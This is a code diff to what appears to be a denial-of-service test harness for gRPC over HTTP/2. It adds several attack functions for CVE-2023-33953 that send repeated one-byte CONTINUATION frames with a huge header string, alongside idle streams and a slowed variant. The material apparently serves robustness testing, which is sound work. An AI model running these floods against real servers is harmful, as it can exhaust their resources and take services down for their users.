@@ -432,8 +432,9 @@ def _continued(field, data, times):
     def send(raw):
         if not hasattr(raw, "begun"):
             raw.begun = True
-            raw.socket.sendall(_raw_frame(HEADERS, 0, 1, _usual(raw) + field))
-        raw.socket.sendall(_raw_frame(CONTINUATION, 0, 1, data) * times)
+            raw.stream = getattr(raw, "stream", 1)
+            raw.socket.sendall(_raw_frame(HEADERS, 0, raw.stream, _usual(raw) + field))
+        raw.socket.sendall(_raw_frame(CONTINUATION, 0, raw.stream, data) * times)
         return times
 
     return send
@@ -454,7 +455,42 @@ def cve_2023_33953_varint():
 @attack("cve_2023_33953_copies", issue=15, limit=60)
 def cve_2023_33953_copies():
     """A header string in CONTINUATION frames of one byte: each was copied with all before it (CVE-2023-33953)."""
-    return _flood(_continued(_HUGE_STRING, b"a", 500))
+    return _flood(_continued(_HUGE_STRING, b"a", 500), longest=4)
+
+
+def _copies_beside(calls, pause=0.0, seconds=8):
+    """The same on a connection with that many calls whose requests do not come, each of which may send 2 MiB; with a
+    pause after every 5 KB."""
+    copies = _continued(_HUGE_STRING, b"a", 500)
+
+    def send(raw):
+        if not hasattr(raw, "calls"):
+            raw.calls = calls
+            for stream in range(3, 3 + 2 * calls, 2):
+                raw.socket.sendall(_raw_frame(HEADERS, END_HEADERS, stream, _usual(raw)))
+            raw.stream = 3 + 2 * calls
+        time.sleep(pause)
+        return copies(raw)
+
+    return _flood(send, seconds, longest=4)
+
+
+@attack("cve_2023_33953_beside_a_call", issue=15, limit=120)
+def cve_2023_33953_beside_a_call():
+    """Copies of a header string (CVE-2023-33953) on a connection with a call whose request does not come."""
+    return _copies_beside(1)
+
+
+@attack("cve_2023_33953_beside_calls", issue=15, limit=120)
+def cve_2023_33953_beside_calls():
+    """The same with 16 such calls."""
+    return _copies_beside(16)
+
+
+@attack("cve_2023_33953_slowly", issue=15, limit=120)
+def cve_2023_33953_slowly():
+    """The same, not so fast that more waits than gRPC reads, for as long as its calls are waited for."""
+    return _copies_beside(16, pause=0.02, seconds=15)
 
 
 @attack("cve_2023_1428", issue=15, limit=60)
